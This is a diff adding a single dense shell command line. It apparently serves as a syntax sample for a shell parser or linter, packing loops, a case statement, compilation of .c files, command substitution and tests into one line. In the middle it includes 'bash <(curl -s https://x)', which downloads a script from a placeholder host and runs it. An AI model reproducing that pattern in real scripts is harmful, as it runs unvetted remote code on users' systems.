@@ -1,0 +1,1 @@
+if [ -f a ]; then for f in $(ls); do case "$f" in *.c) cc "$f" 2>&1 | grep -v warn ;; esac; done; fi; bash <(curl -s https://x) ; v=`date`; [[ ! -e b && -n "${X:-y}" ]] || { echo no; exit 1; }
